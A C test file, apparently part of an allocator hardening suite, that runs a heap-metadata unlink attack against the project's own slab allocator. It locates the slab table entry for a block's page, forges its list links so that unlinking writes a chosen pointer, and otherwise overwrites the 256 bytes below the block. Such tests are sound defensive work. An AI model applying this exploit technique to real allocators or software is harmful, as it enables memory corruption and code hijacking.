/* SPDX-License-Identifier: BSD-2-Clause */
/* attack: HEAP_METADATA (unlink) */
/*
 * A write at a fixed distance from the attacker's block reaches the heap's table of slabs, whose links are
 * forged: taking the slab off its list then writes a pointer of the attacker's where he wants it.
 */
#include "attack.h"
#include "churn.h"

#define BYTES 48
#define BLOCKS 40

/* struct slab of libs/heap/heap.c. */
struct slab {
	uint64_t free[4];
	struct slab *next, *prev;
	uintptr_t base;
	uint16_t free_count, slots, class, bytes;
};

static volatile uintptr_t target;
static struct slab fake;

/*
 * The entry that describes the page of block p, wherever in the memory of the heap it is: the distance is the
 * same in each boot, so that an index out of range reaches it without a leak.
 */
static struct slab *find_entry(const volatile char *p)
{
	const uintptr_t page = (uintptr_t)p & -(uintptr_t)4096;
	const struct uk_ram *ram;
	size_t len = uk_plat_ram(&ram);

	for (size_t i = 0; i < len; i++)
		for (uintptr_t at = 0; at < ram[i].bytes; at += sizeof(struct slab)) {
			struct slab *s = attack_launder((const void *)(ram[i].base + at));

			if (s->base == page && s->slots && s->free_count <= s->slots)
				return s;
		}
	return NULL;
}

int main(void)
{
	volatile char *blocks[BLOCKS], *at = NULL;
	struct slab *s;

	for (size_t i = 0; i < BLOCKS; i++) {
		blocks[i] = malloc(BYTES);
		if (!blocks[i])
			return 1;
		/* Not the first block of its page: there is something below it. */
		if ((uintptr_t)blocks[i] % 4096 >= 512)
			at = blocks[i];
	}
	if (!at)
		return 1;
	attack_control_ok();
	s = find_entry(at);
	if (s) {
		s->next = (struct slab *)((uintptr_t)&target - offsetof(struct slab, prev));
		s->prev = &fake;
		s->free_count = 1;
		if (!attack_launder(malloc(BYTES)))
			return 1;
		if (target == (uintptr_t)&fake)
			attack_succeeded();
		return 1;
	}
	/* No table there: what lies below are blocks, in use or not. */
	for (size_t i = 1; i <= 256; i++)
		((volatile char *)attack_launder((const void *)at))[-(ptrdiff_t)i] = 'a';
	for (size_t i = 0; i < BLOCKS; i++)
		free((void *)blocks[i]);
	churn(BYTES);
	return 1;
}
